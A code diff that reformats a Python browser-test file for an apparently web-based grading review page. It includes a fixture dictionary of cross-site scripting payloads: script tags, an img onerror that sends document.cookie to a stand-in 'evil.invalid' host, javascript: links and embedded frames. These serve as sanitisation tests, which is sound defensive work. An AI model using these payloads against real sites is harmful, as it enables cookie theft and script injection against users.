@@ -35,7 +35,8 @@ SCREENSHOT = REPO / "docs" / "review-page.png"
 BACKWARD = (
     "With $\\delta = 2(\\hat y - y)$:\n\n"
     "$$\\frac{\\partial L}{\\partial W_2} = \\delta\\, u^\\top, \\qquad "
-    "\\frac{\\partial L}{\\partial W_1} = \\big((W_2^\\top \\delta) \\odot u(1-u)\\big)\\, x^\\top$$"
+    "\\frac{\\partial L}{\\partial W_1} = "
+    "\\big((W_2^\\top \\delta) \\odot u(1-u)\\big)\\, x^\\top$$"
 )
 GRADIENT = "$\\nabla L(w) = (a w_1, b w_2)$, so $w^* = (0, 0)$."
 
@@ -244,7 +245,8 @@ HOSTILE = {
     "h_script": "<script>window.pwned = 1; fetch('/api/grade', {method: 'POST'})</script> x",
     "h_img": '<img src=x onerror="window.pwned = 1; new Image().src = '
     "'http://evil.invalid/?' + document.cookie\">",
-    "h_js": '<a id="jl" href="javascript:window.pwned=1">click me</a> [md link](javascript:alert(1))'
+    "h_js": '<a id="jl" href="javascript:window.pwned=1">click me</a> '
+    "[md link](javascript:alert(1))"
     " $\\href{javascript:window.pwned=1}{math link}$",
     "h_frames": '<iframe src="http://evil.invalid/"></iframe><object data="http://evil.invalid/o">'
     '</object><embed src="http://evil.invalid/e">',
@@ -337,8 +339,8 @@ def test_export_reaches_grades_csv_results_json_and_the_pdf(browser, serve, tmp_
 
 def test_attachment_image_is_shown(browser, serve, tmp_path):
     png = base64.b64decode(png_attachment()["image/png"])
-    out = make_out(tmp_path / "out", {"ann": {"q1_graph": ("![graph](attachment:g.png)",
-                                                           {"g.png": png_attachment(png)})}})  # fmt: skip
+    answer = ("![graph](attachment:g.png)", {"g.png": png_attachment(png)})
+    out = make_out(tmp_path / "out", {"ann": {"q1_graph": answer}})
     tab = Tab(browser, serve(out))
     tab.open("/item/q1_graph/ann")
     img = tab.page.locator("#answer img")
